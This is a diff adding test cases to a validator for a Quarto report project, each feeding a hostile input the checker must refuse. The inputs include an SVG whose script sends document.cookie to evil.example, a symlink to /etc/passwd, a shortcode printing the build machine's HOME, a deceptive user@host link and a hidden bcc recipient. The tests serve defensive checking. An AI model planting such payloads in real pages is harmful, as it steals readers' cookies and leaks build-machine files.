@@ -553,6 +553,60 @@ CASES += [
     ]),
 ]
 
+def link_to(target: str) -> Change:
+    """Make the file a symbolic link to ``target`` (a file of the build machine, outside the project)."""
+    def change(path: Path) -> None:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.symlink_to(target)
+    return change
+
+
+# What a chapter's words could publish or print of the build machine, or a link that opens a place its words do
+# not show (the red-team of sec16): both renderers published them; the check (so `quarto render`) refuses them.
+CASES += [
+    ("chapter-picture-given-by-a-reference-to-another-site", "chapters/_words.md",
+     also(write("Our year.\n\n![Our van][van]\n\n[van]: https://tracker.example/van.png\n"), NET_ZERO,
+          append("\n{{< include _words.md >}}\n")), [
+        "chapters/_words.md:5: the picture 'https://tracker.example/van.png' is on another site: every reader's "
+        "visit would be told to it, and the PDF cannot print it — save the picture in the project (figures/…) and "
+        "show it by its path",
+    ]),
+    ("chapter-picture-at-a-path-of-the-build-machine", NET_ZERO, append("\n![Logo](/usr/share/pixmaps/logo.png)\n"), [
+        "chapters/net-zero.qmd:21: the picture '/usr/share/pixmaps/logo.png' is given by a path starting with /, which "
+        "the build's site does not show (and its PDF step would read from the build machine's disk) — save the "
+        "picture in the project and write its path from the page (../figures/… from a chapter)",
+    ]),
+    ("chapter-picture-that-is-a-link-out-of-the-project", "figures/logo.png",
+     also(link_to("/etc/passwd"), NET_ZERO, append("\n![Logo](../figures/logo.png)\n")), [
+        "figures/logo.png: is a link to a file outside the project (/etc/passwd): a page that shows or links it would "
+        "publish that file of the build machine — copy the file itself into the project in place of the link",
+    ]),
+    ("chapter-svg-picture-with-a-script", "figures/map.svg",
+     also(write('<svg xmlns="http://www.w3.org/2000/svg">\n<script>fetch("https://evil.example/?c="+document.cookie)'
+                '</script>\n</svg>\n'), NET_ZERO, append("\n![Map](../figures/map.svg)\n")), [
+        "figures/map.svg:2: the picture holds a <script> element, which runs when the picture is opened — remove it (an "
+        "editor's 'export as plain SVG' or 'optimise' leaves the drawing alone), or save the picture as .png",
+    ]),
+    # under quarto render a title's shortcode runs, escaped or not: '{{< env HOME >}}' printed the build machine's
+    ("edition-subtitle-with-a-shortcode", EDITION, sub("subtitle: Change today", "subtitle: Change {{< env HOME >}}"), [
+        "data/editions/2025.yml:4: {{ followed by < is read by quarto render as a shortcode ({{< … >}}), even in a "
+        "measure's name or a title, where it would run (it can print the build machine's settings) — put a space "
+        "between {{ and <, or leave the braces out",
+    ]),
+    ("chapter-link-with-a-user-name-before-the-site", NET_ZERO,
+     append("\nApply at [the council](https://luton.gov.uk@evil.example/grants).\n"), [
+        "chapters/net-zero.qmd:21: the link 'https://luton.gov.uk@evil.example/grants' goes to evil.example, not to "
+        "luton.gov.uk: a browser reads what stands before the @ as a user name and opens the site after it — write the "
+        "address of the page itself, without a user name and @ (https://evil.example/… if evil.example is meant)",
+    ]),
+    ("partner-email-link-with-a-hidden-recipient", FOOD,
+     write(PARTNER.format(body="Write to [our team](mailto:team@example.org?bcc=list@evil.example).")), [
+        "partners/poverty/example-food-project.md:7: the email link 'mailto:team@example.org?bcc=list@evil.example' "
+        "adds a recipient the page does not show (bcc=) — link one address alone, such as [email us]"
+        "(mailto:info@example.org); a subject (?subject=…) is allowed",
+    ]),
+]
+
 # Problems only the build finds (they need the chapters executed): `build` only.
 BUILD_CASES = [
     ("chapter-cell-raises", NET_ZERO, append("\n```{python}\nshare = 1 / 0\n```\n"), [
